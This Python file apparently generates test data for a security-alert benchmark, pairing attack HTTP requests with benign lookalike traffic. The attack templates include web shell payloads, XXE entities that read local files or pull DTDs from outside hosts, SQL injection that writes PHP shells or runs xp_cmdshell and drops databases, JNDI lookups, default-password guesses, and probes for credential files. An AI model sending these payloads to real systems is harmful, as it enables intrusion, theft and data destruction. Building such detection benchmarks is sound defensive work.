"""Alerts about proxies, databases, service interfaces, logins and leftovers: what attackers and what programs send there."""

from __future__ import annotations

from generator.families.alerts.secalertbench_topics import topic
from generator.scene import attack

_code = attack("Remote Code Execution Exploit", "T1190", "T1059", severity="CRITICAL")
_recon = attack("Automated Reconnaissance / Vulnerability Scanning", "T1595.002", "T1595.003", severity="MEDIUM")
_tool = attack("Automated Reconnaissance / Vulnerability Scanning", "T1595.002", severity="MEDIUM")
_shell = attack("Web Shell", "T1505.003", severity="CRITICAL")
_guess = attack("Brute Force Attack", "T1078.001", "T1110.001", severity="HIGH")
_xxe = attack("Server-Side Request Forgery (SSRF) Attempt", "T1190", severity="HIGH")
_sql = attack("SQL Injection — Union/Boolean SQLi", "T1190", severity="HIGH")
_files = attack("Local File Inclusion (LFI) Attack", "T1083", "T1190", severity="HIGH")
_account = attack("Persistence", "T1136", "T1190", severity="HIGH")
_drop = attack("SQL Injection — Destructive SQLi", "T1190", severity="CRITICAL")
_system = attack("SQL Injection — OS Command via SQLi", "T1190", "T1505.003", severity="CRITICAL")

topic("sensor-proxies-probed sensor-proxies-used", "other redirect settings access", "HTTP代理探测|HTTP CONNECT 隧道|开放代理滥用|可疑HTTP流量", {
    _tool: """
CONNECT ⟨smtp.{site}:25|mx.{site}:25|{wan}:25|{wan}:22|{wan}:6667⟩ ¦ User-Agent: ⟨Go-http-client/1.1|curl/7.61.1|⟩
GET http://⟨azenv.net/|httpbin.org/ip|proxyjudge.us/azenv.php|www.proxy-listen.de/azenv.php|{outside}/⟩ ¦ Proxy-Connection: close
CONNECT 169.254.169.254:80
GET http://169.254.169.254/latest/meta-data/ ¦ Host: 169.254.169.254
POST http://{wan}:25/ ¦¦ HELO {word}⏎MAIL FROM:<{word}@{site}>⏎RCPT TO:<{word}@{site}>
CONNECT 127.0.0.1:⟨22|3306|6379|2375⟩ ¦ User-Agent: ⟨curl/7.61.1|python-requests/2.12.4⟩
GET http://localhost:6379/ ¦ Proxy-Connection: keep-alive
GET /proxy?url=http://azenv.net/ ¦ X-Forwarded-For: 127.0.0.1
"""}, """
CONNECT ⟨www.baidu.com:443|update.googleapis.com:443|settings-win.data.microsoft.com:443|api.weixin.qq.com:443|ocsp.digicert.com:80|login.microsoftonline.com:443|www.{site}:443|registry.npmjs.org:443|smtp.office365.com:587⟩ ¦ Proxy-Connection: keep-alive
GET http://⟨ctldl.windowsupdate.com/msdownload/update/v3/static/trustedr/en/authrootstl.cab|www.msftconnecttest.com/connecttest.txt|detectportal.firefox.com/success.txt|mirrors.aliyun.com/centos/7/os/x86_64/repodata/repomd.xml|security.ubuntu.com/ubuntu/dists/jammy/InRelease⟩ ¦ Proxy-Connection: keep-alive
CONNECT {host}:⟨443|8443⟩ ¦ Proxy-Authorization: Basic {blob}
POST http://ocsp.⟨digicert.com|sectigo.com|globalsign.com⟩/ ¦ Content-Type: application/ocsp-request ¦¦ {blob}
GET http://www.{site}/news?page={n} ¦ Proxy-Connection: keep-alive
HEAD http://officecdn.microsoft.com/pr/{uuid}/Office/Data/v64_16.0.{n}.cab ¦ User-Agent: Microsoft BITS/7.8
GET /proxy/stats;csv ¦ User-Agent: haproxy_exporter
OPTIONS http://{host}/api ¦ Origin: https://{domain}
GET /proxy?url=https://tile.openstreetmap.org/{n}/{n}/{n}.png
""")

topic("sensor-leftovers-sought sensor-leftovers-lookalikes", "leak disclosure download settings", "备份文件下载尝试|敏感文件访问|源代码泄露|发现访问配置文件|Git 目录泄露", {
    _recon: """
GET /⟨.git/config|.git/HEAD|.git/index|.git/logs/HEAD|.svn/entries|.hg/hgrc|.bzr/README⟩
GET /⟨.env|.env.local|.env.production|.env.bak|api/.env|backend/.env|laravel/.env|config/.env⟩
GET /⟨www|web|wwwroot|backup|{company}|site|db|database|1|bak⟩.⟨zip|tar.gz|rar|sql|7z|bak|sql.gz⟩
GET /⟨wp-config.php|config.php|web.config|application.yml|database.yml|settings.py|config.inc.php⟩⟨.bak|~|.old|.swp|.save|.txt⟩
GET /⟨.aws/credentials|.ssh/id_rsa|.ssh/authorized_keys|.npmrc|.dockercfg|.docker/config.json|.kube/config|.git-credentials|.pgpass|.bash_history⟩
GET /⟨phpinfo|info|test|i|p|php_info|_profiler/phpinfo⟩.php
GET /⟨.vscode/sftp.json|sftp-config.json|.idea/dataSources.xml|.DS_Store|.htpasswd|id_dsa|server.key|privatekey.pem⟩
GET /⟨WEB-INF/web.xml|WEB-INF/classes/application.properties|META-INF/MANIFEST.MF⟩
HEAD /⟨dump|users|mysql|data|export⟩.⟨sql|sql.gz|tar|zip⟩
GET /⟨debug/pprof/heap|debug/vars|server-info|.well-known/../.env|elmah.axd|trace.axd⟩
"""}, """
GET /⟨.well-known/security.txt|.well-known/acme-challenge/{hex}|.well-known/openid-configuration|.well-known/apple-app-site-association|.well-known/assetlinks.json⟩
GET /⟨env.js|config.json|env-config.js|config/app.js|assets/config.prod.json⟩?v={hex}
GET /download/⟨app|client|driver|manual⟩-v{n}.⟨zip|tar.gz|exe|msi|apk⟩
GET /gitbook/images/git-config.png
GET /docs/web.config-reference.html
GET /static/js/⟨backup|database|env|settings⟩.{hex}.chunk.js
GET /help/ssh-keys/id_rsa_howto.html
GET /⟨robots.txt|sitemap.xml|ads.txt|humans.txt|favicon.ico|manifest.json|crossdomain.xml|browserconfig.xml⟩
GET /export/download/{uuid}.zip?sign={hex}
GET /backup/status ¦ Authorization: Bearer {hex}
GET /repo/{micro}.git/info/refs?service=git-upload-pack ¦ User-Agent: git/2.40.1
HEAD /packages/db-{n}.tar.gz ¦ User-Agent: Wget/1.21.3
""")

topic("sensor-default-passwords-tried sensor-passwords-in-plain-forms", "password password settings", "HTTP弱口令登录|后台登录弱口令|明文密码传输|发现默认口令登录|HTTP Basic认证弱口令", {
    _guess: """
POST /login ¦¦ username=⟨admin|root|test|guest⟩&password=⟨admin|123456|password|admin123|12345678|root|test⟩
POST /j_spring_security_check ¦¦ j_username=⟨admin|jenkins⟩&j_password=⟨admin|jenkins|123456⟩
GET /manager/html ¦ Authorization: Basic ⟨dG9tY2F0OnRvbWNhdA==|YWRtaW46YWRtaW4=|dG9tY2F0OnMzY3JldA==|YWRtaW46MTIzNDU2⟩
POST /console/j_security_check ¦¦ j_username=weblogic&j_password=⟨weblogic|weblogic123|Oracle@123|welcome1⟩
POST /nacos/v1/auth/users/login ¦¦ username=nacos&password=nacos
POST /api/login ¦¦ {"user":"⟨admin|sysadmin|superadmin⟩","password":"⟨admin|123456|admin@123|P@ssw0rd⟩"}
POST /druid/submitLogin ¦¦ loginUsername=admin&loginPassword=⟨admin|123456|druid⟩
POST /zabbix/index.php ¦¦ name=Admin&password=zabbix&enter=Sign+in
POST /geoserver/j_spring_security_check ¦¦ username=admin&password=geoserver
POST /api/v4/session ¦¦ {"login":"root","password":"⟨5iveL!fe|12345678|root⟩"}
POST /login.cgi ¦¦ user=⟨ubnt|admin|support⟩&passwd=⟨ubnt|admin|support|1234⟩
POST /minio/login ¦¦ {"accessKey":"minioadmin","secretKey":"minioadmin"}
"""}, """
POST /login ¦¦ username={user}&password={hex}&captcha={n}&rememberMe=true
POST /j_spring_security_check ¦¦ j_username={user}&j_password=«{blob}»&remember_me=on
GET /manager/status?XML=true ¦ Authorization: Basic {blob}
POST /cas/login ¦¦ username={user}&password={hex}&lt=LT-{big}-{word}&_eventId=submit
POST /nacos/v1/auth/users/login ¦¦ username={service}&password={hex}
POST /api/login ¦¦ {"user":"{user}","password":"{hex}","client":"android","deviceId":"{uuid}"}
POST /api/user/password ¦¦ {"old":"{hex}","new":"{hex}","confirm":"{hex}"}
POST /oauth/token ¦¦ grant_type=password&username={mail}&password={hex}&client_id=web
POST /api/sms/code ¦¦ {"mobile":"138{big}","type":"login","password":""}
POST /sso/doLogin ¦¦ loginName={user}&loginPwd={hex}&tenant={company}&redirect=%2Fadmin
POST /register ¦¦ {"name":"{user}","password":"{hex}","inviteCode":"{word}","agree":true}
POST /api/user/reset ¦¦ {"user":"{user}","admin":"{user}","password":"{hex}","reason":"{talk}"}
""", weight=1.3)

topic("sensor-shell-operators-at-work sensor-sealed-bodies-of-apps", "tool upload code other", "疑似Webshell管理工具通信|冰蝎Webshell流量|哥斯拉Webshell流量|蚁剑Webshell流量|HTTP请求体加密异常", {
    _shell: """
POST /⟨upload|uploads|images|static|userfiles⟩/{word}.⟨php|jsp|aspx|jspx|ashx⟩ ¦ Content-Type: application/octet-stream ¦¦ {blob}
POST /⟨uploads|image|files⟩/{word}.php ¦¦ pass=«@eval(base64_decode($_POST['{word}']));»&{word}={coded}
POST /{word}.jsp ¦¦ cmd=«{cmd}»&pwd={word}
GET /images/{word}.aspx?⟨cmd|c|exec|z⟩=«{cmd}»
POST /uploadfile/{word}.php ¦¦ ant=«@ini_set("display_errors","0");@set_time_limit(0);echo "{hex}";$D=dirname($_SERVER["SCRIPT_FILENAME"]);»
POST /template/{word}.php ¦¦ z0={coded}&z1={blob}&caidao=«@eval(base64_decode($_POST[z0]));»
POST /cache/{word}.php ¦¦ _0x{hex}=«assert("eval(base64_decode('{coded}'))")»
GET /wp-content/uploads/2024/0{few}/{word}.php?0=«{cmd}»
POST /aspnet_client/{word}.aspx ¦¦ {word}=«Response.Write(eval("{cmd}","unsafe"));»
POST /uploads/{word}.jsp ¦ Cookie: rememberMe=x ¦¦ action=«FileManager»&dir=/etc&run=«{cmd}»
"""}, """
POST /api/⟨encrypt|gateway|v2/secure|report⟩ ¦ Content-Type: application/octet-stream ¦¦ {blob}
POST /uploads/check ¦¦ {"name":"{file}","md5":"{hex}","chunk":{n},"chunks":{n}}
POST /app/gateway.do ¦¦ data=«{blob}»&sign={hex}&timestamp={big}
POST /wechat/callback?signature={hex}&nonce={big} ¦¦ <xml><ToUserName>{word}</ToUserName><Encrypt>{blob}</Encrypt></xml>
POST /images/upload.aspx ¦¦ image=«data:image/png;base64,{blob}»
POST /api/telemetry ¦¦ {"d":"{blob}","v":{n}}
POST /template/save.php ¦¦ name=index&html=«<div>{talk}</div>»&token={hex}
POST /statistics/collect.php ¦¦ e=«{blob}»&uid={uuid}
POST /cgi-bin/pay_notify.php ¦¦ <xml><return_code>SUCCESS</return_code><sign>{hex}</sign><out_trade_no>{big}</out_trade_no></xml>
GET /wp-content/uploads/2024/0{few}/{file}
POST /shell/terminal/resize ¦¦ {"id":"{uuid}","cols":{n},"rows":40}
""")

topic("sensor-xml-entities-planted sensor-xml-messages-exchanged", "other code leak redirect", "XXE 外部实体注入|SOAP 请求异常|XML 实体注入漏洞|WebService 未授权访问", {
    _xxe: """
POST /services/⟨OrderService|StockService|UserService⟩ ¦¦ <?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///{secret}">]><soapenv:Envelope><soapenv:Body><q>&x;</q></soapenv:Body></soapenv:Envelope>
POST /pay/notify ¦¦ <?xml version="1.0"?><!DOCTYPE xml [<!ENTITY % r SYSTEM "http://{outside}/{word}.dtd"> %r; %all; %send;]><xml><return_code>1</return_code></xml>
POST /saml/acs ¦¦ <!DOCTYPE r [<!ELEMENT r ANY><!ENTITY sp SYSTEM "{inside}">]><samlp:Response><r>&sp;</r></samlp:Response>
POST /upload/xlsx ¦¦ <?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "{inside}">]><Types>&xxe;</Types>
POST /wxpay/callback ¦¦ <!DOCTYPE root [<!ENTITY % remote SYSTEM "ftp://{outside}/{word}">%remote;]><root/>
POST /api/svg ¦¦ <?xml version="1.0"?><!DOCTYPE svg [<!ENTITY f SYSTEM "file:///{secret}">]><svg><text>&f;</text></svg>
POST /xmlrpc ¦¦ <!DOCTYPE m [<!ENTITY p SYSTEM "php://filter/convert.base64-encode/resource=config.php">]><methodCall><methodName>&p;</methodName></methodCall>
POST /services/BpmService?wsdl ¦¦ <!DOCTYPE a PUBLIC "-//B/A/EN" "{inside}"><soap:Envelope/>
"""}, """
POST /services/⟨OrderService|StockService|UserService⟩ ¦¦ <?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><query><no>{big}</no><remark>{talk}</remark></query></soapenv:Body></soapenv:Envelope>
POST /pay/notify ¦¦ <xml><return_code>SUCCESS</return_code><mch_id>{big}</mch_id><sign>{hex}</sign></xml>
POST /saml/acs ¦¦ SAMLResponse=«{blob}»&RelayState=«https://{domain}/home»
POST /edi/receive ¦¦ <!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd"><cXML payloadID="{big}"><Header/><Request><OrderRequest/></Request></cXML>
POST /api/svg ¦¦ <?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg><text>{talk}</text></svg>
POST /invoice/upload ¦¦ <?xml version="1.0"?><Invoice><ID>{big}</ID><Note>{talk} &amp; more</Note></Invoice>
POST /ws/hl7 ¦¦ <ClinicalDocument><title>&lt;script&gt; der Praxis</title><id root="{uuid}"/></ClinicalDocument>
POST /xmlrpc ¦¦ <methodCall><methodName>blog.getPosts</methodName><params><param><value><int>{n}</int></value></param></params></methodCall>
GET /services/BpmService?wsdl
POST /sitemap/submit ¦¦ <urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://{domain}/p{n}</loc></url></urlset>
PROPFIND /calendars/{user}/default/ ¦¦ <d:propfind xmlns:d="DAV:" xmlns:c="urn:ietf:params:xml:ns:caldav"><d:prop><c:calendar-data/></d:prop></d:propfind>
""")

topic("sensor-scanners-by-their-marks sensor-probes-of-operators", "tool tool other settings", "发现扫描器指纹|扫描工具探测|异常请求头|Nmap Scripting Engine 探测|Web漏洞扫描器", {
    _tool: """
GET /nmaplowercheck{big} ¦ User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)
GET /?id={n} ¦ User-Agent: sqlmap/1.{n}#stable (https://sqlmap.org)
GET /acunetix-wvs-test-for-some-inexistent-file
GET /«<script>alert({n})</script>».⟨jsp|php|asp⟩ ¦ User-Agent: Mozilla/4.75 [en] (X11, U; Nessus)
POST /sdk ¦¦ <soap:Envelope><soap:Header><operationID>00000001-00000001</operationID></soap:Header><soap:Body><RetrieveServiceContent xmlns="urn:internalvim25"/></soap:Body></soap:Envelope>
GET /⟨appscan_fingerprint|bycwvsrepeater|w3af|netsparker-{hex}|openvas{big}⟩
GET /evox/about ¦ User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)
GET /cgi-bin/{word}.⟨cgi|pl|sh⟩ ¦ User-Agent: Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{n})
GET / ¦ User-Agent: ⟨masscan/1.3|Fuzz Faster U Fool v2.1.0|gobuster/3.6|dirbuster|WPScan v3.8.25|Nuclei - Open-source project (github.com/projectdiscovery/nuclei)|feroxbuster/2.10⟩
OPTIONS / ¦ Acunetix-Aspect: enabled ¦ Acunetix-Aspect-Password: {hex}
TRACE /{word} ¦ User-Agent: ⟨w3af.org|Arachni/v1.5|Jorgee⟩
GET /t({n}).js%3f.jsp ¦ Cookie: nessus={hex}
"""}, """
GET /health ¦ User-Agent: ⟨GoogleHC/1.0|ELB-HealthChecker/2.0|kube-probe/1.28|UptimeRobot/2.0|Pingdom.com_bot_version_1.4|Site24x7|check_http/v2.3.3 (monitoring-plugins)|Zabbix|Blackbox Exporter/0.24|StatusCake⟩
GET / ¦ User-Agent: ⟨Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)|Mozilla/5.0 (compatible; bingbot/2.0)|Sogou web spider/4.0|Mozilla/5.0 (compatible; AhrefsBot/7.0)|360Spider⟩
GET /robots.txt ¦ User-Agent: ⟨Baiduspider|YandexBot/3.0|DuckDuckBot/1.1|PetalBot⟩
POST /sdk ¦ User-Agent: VMware-client/6.5 ¦¦ <soapenv:Envelope><soapenv:Body><WaitForUpdatesEx xmlns="urn:vim25"><version>{n}</version></WaitForUpdatesEx></soapenv:Body></soapenv:Envelope>
OPTIONS /api/{micro} ¦ Access-Control-Request-Method: POST ¦ Origin: https://{domain}
HEAD / ¦ User-Agent: ⟨curl/7.88.1|Wget/1.20|Java/11.0.2|okhttp/4.9.3⟩
GET /server-status?auto ¦ User-Agent: ⟨Telegraf/1.27|munin/2.0|collectd/5.12⟩
GET /docs/security/⟨nmap|nessus|acunetix|sqlmap⟩-report-{n}.pdf
GET /blog/how-to-use-⟨nikto|nuclei|gobuster⟩ ¦ Referer: https://www.google.com/
GET /cgi-bin/⟨munin-cgi-graph|awstats.pl?config={domain}|nagios3/tac.cgi|mailman/listinfo⟩
TRACE / ¦ User-Agent: ⟨F5-Monitor|HAProxy⟩
GET /favicon.ico ¦ User-Agent: ⟨Slackbot-LinkExpanding 1.0|WhatsApp/2.23|Twitterbot/1.0|facebookexternalhit/1.1⟩
""")

topic("sensor-database-pages-abused sensor-database-pages-worked", "sql access settings code", "phpMyAdmin 任意代码执行|Adminer SSRF|数据库管理后台SQL执行|CouchDB 权限提升(CVE-2017-12635)|InfluxDB 未授权访问|ClickHouse 未授权访问", {
    _system: """
POST /phpmyadmin/import.php ¦¦ db=mysql&sql_query=«select '{page}' into outfile '/var/www/html/{word}.php'»
POST /phpmyadmin/sql.php ¦¦ sql_query=«set global general_log_file='/var/www/html/{word}.php';select '{page}'»&server=1
POST /adminer.php?pgsql={lan} ¦¦ query=«COPY t FROM PROGRAM '{cmd}'»
POST /?query=«SELECT * FROM file('/{secret}') UNION ALL SELECT * FROM executable('{cmd}')» ¦¦ x
POST /dbadmin/execute ¦¦ {"sql":"EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE;EXEC master..xp_cmdshell '{cmd}'"}
""", _code: """
POST /sqlpad/api/test-connection ¦¦ {"database":"{{ process.mainModule.require('child_process').exec('{cmd}') }}","driver":"mysql","host":""}
POST /h2-console/login.do?jsessionid={hex} ¦¦ driver=javax.naming.InitialContext&url=«ldap://{outside}/{word}»
""", _account: """
PUT /_users/org.couchdb.user:{word} ¦¦ {"type":"user","name":"{word}","roles":["_admin"],"roles":[],"password":"{word}"}
PUT /_node/nonode@nohost/_config/admins/{word} ¦¦ "{word}"
""", _files: """
GET /phpmyadmin/index.php?target=db_sql.php%253f/../../../../../../{secret}
GET /pma/index.php?target=db_datadict.php%3f/{up}{secret}
""", _sql: """
POST /dbadmin/execute ¦¦ {"sql":"select user,authentication_string from mysql.user union select usename,passwd from pg_shadow"}
GET /adminer.php?username=«{sqli}»
POST /phpmyadmin/tbl_search.php ¦¦ where=«1=1 union select load_file('/etc/passwd'),2»
""", _drop: """
GET /query?q=«DROP DATABASE {table};DROP SERIES FROM {table}--»&u=anonymous
POST /dbadmin/execute ¦¦ {"sql":"1;DROP TABLE {table};--"}
"""}, """
POST /phpmyadmin/import.php ¦¦ db=shop&table={table}&format=csv&csv_columns=«id,name,price»
POST /phpmyadmin/sql.php ¦¦ db=shop&table={table}&sql_query=«{query}»&session_max_rows=25
GET /phpmyadmin/index.php?route=/table/structure&db=shop&table={table}
POST /adminer.php?pgsql={lan} ¦¦ query=«{query}»&token={big}
POST /sqlpad/api/batches ¦¦ {"connectionId":"{uuid}","batchText":"{query}"}
GET /h2-console/query.jsp?jsessionid={hex}
POST /?database=dw ¦ X-ClickHouse-User: reader ¦¦ {query} FORMAT JSON
POST /dbadmin/execute ¦¦ {"sql":"{query}","db":"erp","explain":true}
GET /query?db=telegraf&q=«SELECT mean("usage_idle") FROM "cpu" WHERE time > now() - 1h GROUP BY time(1m)»
PUT /orders/{uuid} ¦¦ {"_id":"{uuid}","type":"order","roles":["buyer"],"note":"{talk}"}
POST /api/v2/write?org={company}&bucket=iot ¦¦ pump,site=a temp={n}.{n} {big}
POST /dbadmin/backup ¦¦ {"database":"erp","format":"sql","drop":true,"schedule":"0 2 * * *"}
""", weight=1.3)
